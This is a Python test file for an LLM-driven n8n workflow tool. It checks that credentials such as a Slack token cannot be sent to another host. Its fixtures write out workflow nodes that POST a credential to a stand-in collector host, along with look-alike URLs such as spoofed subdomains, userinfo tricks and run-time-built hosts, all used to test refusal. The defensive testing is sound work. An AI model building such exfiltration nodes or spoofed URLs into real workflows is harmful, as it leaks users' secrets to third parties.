"""A credential never leaves its service, on every path: the validator (so generate, repair,
edit, rollback, watch repair, `clixen deploy`, test runs) refuses a predefined credential sent to
another host and the Clixen bot's token outside Slack's nodes; binding never picks the bot's
token by itself; an edit that points a node holding a credential at another host asks for it
again. Real Postgres and n8n, the scripted LLM."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy.orm import Session, sessionmaker

from cli import main
from core.credentials import secrets as project_secrets
from core.credentials import sync as credential_sync
from core.credentials.needs import adopt_bot_token
from core.deploy import ValidationFailed
from core.generation.edits import AddNode, RemoveNode, UpdateParameters, apply_operations
from core.kernel.errors import InvalidInput, PermissionDenied
from core.kernel.models import Secret
from core.kernel.settings import Settings, get_settings
from core.kernel.vocabulary import RunState
from core.n8n import N8nClient
from core.pipeline import PipelineServices, execute_run, start_run
from core.pipeline.resume import provide_credentials
from core.validation import validate
from core.workspace.policy import NodePolicy
from tests.builders import delete_deployed, new_project, pipeline_services, versions
from tests.core.test_credentials import rss_to_slack
from tests.core.test_deploy_guards import with_node
from tests.core.test_pipeline_edits import deploy_v1, edit
from tests.doubles.llm_server import ScriptedLLM
from tests.workflows import answer, labelled_schedule

TEAM, USER = "T1", "U1"
KEY = "k3y-for-credential-use-tests-9e"
COLLECTOR = "https://collector.example.net/"


def http_node(url: str, ctype: str = "slackApi", secret: str | None = None) -> dict[str, Any]:
    node: dict[str, Any] = {
        "name": "Call",
        "type": "n8n-nodes-base.httpRequest",
        "typeVersion": 4.2,
        "parameters": {
            "method": "POST",
            "url": url,
            "authentication": "predefinedCredentialType",
            "nodeCredentialType": ctype,
            "options": {},
        },
    }
    if secret is not None:
        node["credentials"] = {ctype: {"name": secret}}
    return node


def codes(wf: dict[str, Any], policy: NodePolicy | None = None) -> list[tuple[str, str | None]]:
    return [(i.code, i.node) for i in validate(wf, policy=policy).errors]


@pytest.fixture
def services(
    session_factory: sessionmaker[Session], n8n_client: N8nClient, llm: ScriptedLLM
) -> Iterator[PipelineServices]:
    settings = Settings(CLIXEN_SECRET_KEY=KEY)  # type: ignore[call-arg]
    yield pipeline_services(session_factory, n8n_client, llm.url, settings=settings)
    delete_deployed(session_factory, n8n_client)
    with session_factory() as session:
        ids = [c for (c,) in session.query(Secret.n8n_credential_id) if c]
    for cid in ids:
        n8n_client.delete_credential(cid)


@pytest.fixture
def project_id(session_factory: sessionmaker[Session]) -> int:
    return new_project(session_factory, team_id=TEAM, user_id=USER)


def test_a_slack_credential_sent_to_a_collector_is_an_error() -> None:
    bad = with_node(labelled_schedule("x"), http_node(COLLECTOR))
    assert codes(bad) == [("credential_host", "Call")]
    assert codes(bad, NodePolicy.default()) == [("credential_host", "Call")]
    [issue] = validate(bad).errors
    assert "collector.example.net" in issue.message and "slack.com, *.slack.com" in issue.message
    # Its own service, any spelling n8n matches; a subdomain; GitHub's API.
    for url, ctype in (
        ("https://slack.com/api/chat.postMessage", "slackApi"),
        ("https://hooks.slack.com/x", "slackApi"),
        ("https://api.github.com/repos/a/b/issues", "githubApi"),
    ):
        assert codes(with_node(labelled_schedule("x"), http_node(url, ctype))) == []
    # Look-alikes are refused.
    for url in (
        "https://slack.com.collector.example.net/",
        "https://collector.example.net/slack.com",
        "https://user:pw@collector.example.net/",
        "={{ 'https://collector.example.net/' + $json.path }}",
    ):
        assert codes(with_node(labelled_schedule("x"), http_node(url))) == [
            ("credential_host", "Call")
        ], url
    # The AI-tool variant too.
    tool = http_node(COLLECTOR) | {"type": "n8n-nodes-base.httpRequestTool"}
    assert ("credential_host", "Call") in codes(with_node(labelled_schedule("x"), tool))


def test_a_literal_prefix_names_the_host_and_a_run_time_host_is_a_warning() -> None:
    """Issue 29: `'https://api.github.com/repos/' + $json.repo` calls GitHub (its host is a
    literal prefix); a host built at run time on a domain-restricted credential is refused by
    n8n when the node runs, so it is a warning, not an error."""
    prefixed = "={{ 'https://api.github.com/repos/' + $json.repo }}"
    wf = with_node(labelled_schedule("x"), http_node(prefixed, "githubApi"))
    assert not [i for i in validate(wf).issues if i.code == "credential_host"]
    assert codes(wf) == []
    # Hosts of the same service that real workflows n8n accepts call.
    for url, ctype in (
        ("https://models.github.ai/inference/chat/completions", "githubApi"),
        ("https://management.azure.com/subscriptions", "microsoftOAuth2Api"),
    ):
        assert codes(with_node(labelled_schedule("x"), http_node(url, ctype))) == [], url
    for url in ("={{ $json.where }}", "={{ $fromAI('url', 'the URL', 'string') }}"):
        report = validate(with_node(labelled_schedule("x"), http_node(url)))
        assert not report.errors, url
        assert [(i.code, i.severity) for i in report.issues if i.code == "credential_host"] == [
            ("credential_host", "warning")
        ], url


def test_an_inline_subworkflow_cannot_send_a_credential_elsewhere_either() -> None:
    inner = {
        "nodes": [
            {
                "name": "Start",
                "type": "n8n-nodes-base.executeWorkflowTrigger",
                "typeVersion": 1.1,
                "position": [0, 0],
                "parameters": {"inputSource": "passthrough"},
            },
            {"position": [200, 0], **http_node(COLLECTOR)},
        ],
        "connections": {"Start": {"main": [[{"node": "Call", "type": "main", "index": 0}]]}},
    }
    wf = with_node(
        labelled_schedule("x"),
        {
            "name": "Run helper",
            "type": "n8n-nodes-base.executeWorkflow",
            "typeVersion": 1.2,
            "parameters": {"source": "parameter", "workflowJson": json.dumps(inner)},
        },
    )
    assert ("credential_host", "Run helper") in codes(wf, NodePolicy.default())


def test_the_bot_token_is_for_slack_nodes_only() -> None:
    for ref in ("CLIXEN_BOT", "clixen-p7-CLIXEN_BOT"):
        wf = with_node(labelled_schedule("x"), http_node("https://slack.com/api/x"))
        wf["nodes"][-1]["credentials"] = {"slackApi": {"id": "12", "name": ref}}
        assert codes(wf) == [("bot_token_misused", "Call")], ref
    slack = rss_to_slack({"slackApi": {"name": "CLIXEN_BOT"}})
    assert codes(slack) == []


def test_clixen_validate_and_deploy_refuse_it(
    session_factory: sessionmaker[Session],
    n8n_client: N8nClient,
    project_id: int,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:
    from core.deploy import create_workflow_record, deploy_version
    from core.workspace.projects import Actor

    bad = with_node(labelled_schedule("x"), http_node(COLLECTOR))
    path = tmp_path / "wf.json"
    path.write_text(json.dumps(bad))
    assert main(["validate", str(path)]) == 1
    assert "credential_host [Call]" in capsys.readouterr().out
    with session_factory.begin() as s:
        wid = create_workflow_record(session=s, project_id=project_id, name="x", created_by=USER).id
    with pytest.raises(ValidationFailed) as err:
        deploy_version(
            session_factory=session_factory, n8n=n8n_client, workflow_id=wid, json_payload=bad,
            source="generate", actor=Actor(TEAM, USER), settings=get_settings(),
        )  # fmt: skip
    assert [i.code for i in err.value.report.errors] == ["credential_host"]
    assert versions(session_factory, wid) == []


def test_the_bot_token_is_never_bound_by_type_nor_to_an_http_node(
    session_factory: sessionmaker[Session], n8n_client: N8nClient, project_id: int
) -> None:
    with session_factory.begin() as s:
        adopt_bot_token(
            session=s, project_id=project_id, team_id=TEAM, user_id=USER, token="xoxb-b", key=KEY
        )
    # A Slack node that names no secret: the bot's token is not "the only slackApi secret".
    with pytest.raises(InvalidInput, match="no secret"):
        credential_sync.sync_project_credentials(
            session_factory=session_factory, project_id=project_id, n8n=n8n_client, key=KEY,
            workflow_json=rss_to_slack({"slackApi": {}}),
        )  # fmt: skip
    # Named on an HTTP Request node (even where the validator was not asked): refused.
    wf = with_node(
        labelled_schedule("x"), http_node("https://slack.com/api/x", secret="CLIXEN_BOT")
    )
    with session_factory.begin() as s, pytest.raises(PermissionDenied, match="only Slack nodes"):
        credential_sync.sync_project_credentials(
            session_factory=session_factory,
            project_id=project_id,
            n8n=n8n_client,
            key=KEY,
            workflow_json=wf,
        )


def test_a_run_waits_rather_than_bind_the_bot_token_by_itself(
    services: PipelineServices, project_id: int, llm: ScriptedLLM
) -> None:
    with services.session_factory.begin() as s:
        adopt_bot_token(
            session=s, project_id=project_id, team_id=TEAM, user_id=USER, token="xoxb-b", key=KEY
        )
    llm.script(answer(rss_to_slack()))
    created, _ = start_run(
        services, team_id=TEAM, user_id=USER, project_id=project_id,
        request="post new items of https://example.com/feed.xml to #news",
    )  # fmt: skip
    waiting = execute_run(services, created.id)
    assert waiting.state == RunState.awaiting_credentials
    assert waiting.credentials_needed == (("Post to Slack", ("slackApi",)),)
    # Chosen explicitly (the "Post as Clixen" button) it is bound and deployed.
    done = provide_credentials(services, created.id, chosen={"Post to Slack": "CLIXEN_BOT"})
    assert done.ok, done.message


def test_an_edit_that_points_a_node_at_another_host_asks_for_its_credential_again(
    services: PipelineServices,
    project_id: int,
    llm: ScriptedLLM,
    session_factory: sessionmaker[Session],
) -> None:
    with session_factory.begin() as s:
        project_secrets.set_secret(
            session=s, project_id=project_id, name="API_AUTH",
            value='{"name": "X-Api-Key", "value": "k-1"}', actor_user_id=USER, key=KEY,
            credential_type="httpHeaderAuth",
            allowed_hosts=["api.example.com", "api.example.org"],
        )  # fmt: skip
    call = {
        "name": "Call",
        "type": "n8n-nodes-base.httpRequest",
        "typeVersion": 4.2,
        "parameters": {
            "url": "https://api.example.com/items",
            "authentication": "genericCredentialType",
            "genericAuthType": "httpHeaderAuth",
            "options": {},
        },
        "credentials": {"httpHeaderAuth": {"name": "API_AUTH"}},
    }
    workflow_id, v1 = deploy_v1(services, project_id, with_node(labelled_schedule("x"), call))

    # Same host, another path: the credential stays.
    same = apply_operations(
        v1,
        [UpdateParameters(op="update_parameters", node="Call",
                          parameters={"url": "https://api.example.com/other"})],
    )  # fmt: skip
    assert same.rebind == [] and "credentials" in same.workflow["nodes"][-1]
    # Removed and added again under its name, calling elsewhere: asked again as well.
    readded = apply_operations(
        v1,
        [
            RemoveNode(op="remove_node", node="Call"),
            AddNode.model_validate(
                {"op": "add_node", "node": {**call, "parameters": {
                    **call["parameters"], "url": "https://api.example.org/x"}}}
            ),
        ],
    )  # fmt: skip
    assert readded.rebind == ["Call"] and "credentials" not in readded.workflow["nodes"][-1]

    llm.script(
        {
            "operations": [
                {
                    "op": "update_parameters",
                    "node": "Call",
                    "parameters": {"url": "https://api.example.org/items"},
                    "credentials": {"httpHeaderAuth": {"name": "API_AUTH"}},
                }
            ],
            "summary": "Calls the .org API now.",
        }
    )
    waiting = edit(services, project_id, workflow_id, "call the .org API instead")
    # The project has exactly one httpHeaderAuth secret, yet the user is asked again.
    assert waiting.state == RunState.awaiting_credentials, waiting.message
    assert waiting.credentials_needed == (("Call", ("httpHeaderAuth",)),)
    assert len(versions(session_factory, workflow_id)) == 1
    # A secret being set meanwhile does not answer the question by itself.
    assert provide_credentials(services, waiting.run_id).state == RunState.awaiting_credentials
    done = provide_credentials(services, waiting.run_id, chosen={"Call": "API_AUTH"})
    assert done.ok, done.message
    v2 = versions(session_factory, workflow_id)[-1].json_payload
    [node] = [n for n in v2["nodes"] if n["name"] == "Call"]
    assert node["parameters"]["url"] == "https://api.example.org/items"
    assert node["credentials"]["httpHeaderAuth"]["name"].endswith("-API_AUTH")
